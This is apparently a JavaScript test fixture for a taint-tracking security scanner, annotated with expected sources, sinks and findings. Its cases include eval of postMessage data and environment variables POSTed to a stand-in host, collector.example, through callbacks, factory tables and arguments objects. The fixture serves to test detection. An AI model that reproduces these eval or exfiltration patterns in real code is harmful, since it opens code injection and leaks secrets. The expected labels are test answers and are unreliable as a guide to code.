// Functions that other functions are given, that come out of others, or that lie in lists; and what libraries hand to them.
window.addEventListener('message', (event) => { //~ source(INPUT) f1
  eval(event.data); //~ sink(exec.code) f1, finding(traced) f1
});
window.addEventListener('message', (event) => {
  console.log(event.data); //~ ok
});

// A list of functions that a library hands to a function of ours.
const send = (text) => { fetch('https://collector.example/list', { method: 'POST', body: text }); }; //~ sink(egress.http) f2, finding(traced) f2
const drop = (text) => text.length;
const hooks = [send];
hooks.forEach((hook) => hook(process.env.LISTED)); //~ source(ENVIRONMENT) f2
[drop].forEach((hook) => hook(process.env.DROPPED)); //~ ok

// A function that comes out of one that is found in a table.
const makers = {
  http: () => (text) => { fetch('https://collector.example/made', { method: 'POST', body: text }); }, //~ sink(egress.http) f3, finding(ambiguous) f3
  none: () => (text) => text.length,
};
function report(kind) {
  const made = makers[kind]();
  made(process.env.MADE); //~ source(ENVIRONMENT) f3
}
report(process.argv[2]);

// What a function is given and has no parameters for.
function joined(target) {
  for (let i = 1; i < arguments.length; i++) {
    const source = arguments[i];
    for (const key in source) {
      if (Object.prototype.hasOwnProperty.call(source, key)) target[key] = source[key];
    }
  }
  return target;
}
const merged = joined({}, { a: 1 }, { token: process.env.MERGED }); //~ source(ENVIRONMENT) f4
fetch('https://collector.example/merged', { method: 'POST', body: JSON.stringify(merged) }); //~ sink(egress.http) f4, finding(traced) f4

function relay() {
  const inner = () => arguments[0];
  return post.apply(this, arguments).concat(inner());
}
function post(to, text) {
  fetch(to, { method: 'POST', body: text }); //~ sink(egress.http) f5, finding(traced) f5
  return '';
}
relay('https://collector.example/relayed', process.env.RELAYED); //~ source(ENVIRONMENT) f5

function counted() {
  fetch('https://collector.example/counted', { method: 'POST', body: arguments.length }); //~ ok
}
counted(process.env.COUNTED);
